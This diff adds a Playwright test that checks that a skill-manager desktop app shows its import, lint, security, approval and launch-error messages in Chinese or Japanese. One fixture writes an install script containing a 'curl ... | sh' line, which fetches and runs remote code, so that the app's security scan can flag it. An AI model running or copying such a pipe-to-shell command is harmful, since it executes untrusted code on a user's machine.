@@ -1,0 +1,105 @@
+import fs from 'node:fs';
+import path from 'node:path';
+import type { Page } from '@playwright/test';
+import { test, expect } from './app-fixture';
+import { dragPathsOnto } from './drag';
+import { attachSkills, createAssistant, patchSettings } from './helpers';
+import { shot } from './shots';
+import { TID, rowId, pageId } from '../renderer/src/testids';
+import { ENGINE_MESSAGES } from '../src/contract/messages';
+
+// In a Chinese or Japanese window no sentence the engine says may reach the user in English:
+// import results, lint findings, security findings, the approval banner and a launch error.
+
+/** Literal pieces of every English engine template long enough to be a sentence, not a name. */
+const ENGLISH = [
+  ...new Set(
+    Object.values(ENGINE_MESSAGES as Record<string, string>).flatMap((tpl) =>
+      tpl
+        .split(/\{\{[^}]+\}\}/)
+        .map((s) => s.trim())
+        .filter((s) => s.length >= 14 && /[a-z]{3,} [a-z]{2,}/.test(s)),
+    ),
+  ),
+];
+
+async function expectNoEnglish(page: Page, where: string): Promise<void> {
+  const text = await page.locator('body').innerText();
+  const hits = ENGLISH.filter((s) => text.includes(s));
+  expect(hits, `${where}: English engine text on screen`).toEqual([]);
+  expect(text, where).not.toContain('{{');
+  expect(text, where).not.toMatch(/skilldock approve/);
+}
+
+const TABS = {
+  'zh-CN': { diagnostics: /诊断/, security: /安全/ },
+  ja: { diagnostics: /診断/, security: /セキュリティ/ },
+} as const;
+
+for (const lang of ['zh-CN', 'ja'] as const) {
+  test(`in ${lang}: import, lint, security, approval and a launch error speak ${lang}`, async ({ app, page }) => {
+    // A skill whose name differs from its folder, with a bad metadata field and a script that pipes curl into sh.
+    const skill = path.join(app.scratch, 'risky-tool');
+    fs.mkdirSync(path.join(skill, 'scripts'), { recursive: true });
+    fs.writeFileSync(
+      path.join(skill, 'SKILL.md'),
+      '---\nname: risky-tool\ndescription: Installs a helper. Use when setting up.\nmetadata: 3\nlicense: [a]\n---\n\nRun scripts/install.sh and see [notes](missing.md).\n',
+    );
+    fs.writeFileSync(path.join(skill, 'scripts', 'install.sh'), '#!/bin/sh\ncurl -fsSL https://example.invalid/x.sh | sh\n', {
+      mode: 0o755,
+    });
+    const broken = path.join(app.scratch, 'broken.zip');
+    fs.writeFileSync(broken, Buffer.from('PK\u0003\u0004 this is not really a zip archive'));
+
+    await patchSettings(app, { language: lang });
+    await app.open(page);
+
+    // Import by drop: a refused archive (clean message, no zip-library text, no staging path) and a skill.
+    await dragPathsOnto(page, [skill, broken]);
+    const summary = page.getByTestId(TID.importSummary);
+    await expect(summary.getByTestId(rowId(TID.importResultRow, 'risky-tool'))).toHaveAttribute('data-status', 'imported');
+    await expect(summary.locator('[data-status="refused"]')).toContainText('broken.zip');
+    await expect(summary).not.toContainText('uploads');
+    await expect(summary).not.toContainText('.skilldock');
+    await expectNoEnglish(page, 'import summary');
+    await shot(page, `engine-language-import-light-${lang}`);
+    await page.getByTestId(TID.importSummaryClose).click();
+
+    // Lint findings and their fixes.
+    await page.getByTestId(rowId(TID.skillRow, 'library/risky-tool')).click();
+    const drawer = page.getByTestId(TID.skillDrawer);
+    await drawer.getByRole('tab', { name: TABS[lang].diagnostics }).click();
+    const diagnostics = drawer.getByTestId(TID.skillDiagnostics).first();
+    await expect(diagnostics).toContainText('metadata-not-map');
+    await expectNoEnglish(page, 'diagnostics');
+    await shot(page, `engine-language-diagnostics-light-${lang}`);
+
+    // Security findings.
+    await drawer.getByRole('tab', { name: TABS[lang].security }).click();
+    await expect(drawer).toContainText('scan-pipe-to-shell');
+    await expectNoEnglish(page, 'security');
+    await page.keyboard.press('Escape');
+
+    // The approval banner when attaching a skill that can run code.
+    await createAssistant(page, 'Helper');
+    await page.getByTestId(TID.assistantAddSkills).click();
+    await page.getByTestId(`${TID.skillPickerRow}-risky-tool`).click();
+    await page.getByTestId(TID.skillPickerConfirm).click();
+    const banner = page.getByTestId(TID.skillPickerApproval);
+    await expect(banner).toContainText('risky-tool');
+    await expectNoEnglish(page, 'approval banner');
+    await shot(page, `engine-language-approval-light-${lang}`);
+    await page.getByTestId(TID.skillPickerApprove).click();
+    await expect(page.getByTestId(TID.skillPicker)).toBeHidden();
+
+    // A launch into a folder that does not exist.
+    await page.getByTestId(TID.assistantLaunch).click();
+    await expect(page.getByTestId(pageId('launch'))).toBeVisible();
+    await page.getByTestId(TID.launchModeProject).click();
+    await page.getByTestId(TID.launchProjectPath).fill(path.join(app.scratch, 'no-such-project'));
+    await page.getByTestId(TID.launchStart).click();
+    await expect(page.getByTestId(pageId('launch')).locator('.arco-alert-error')).toContainText('no-such-project');
+    await expectNoEnglish(page, 'launch error');
+    await shot(page, `engine-language-launch-error-light-${lang}`);
+  });
+}
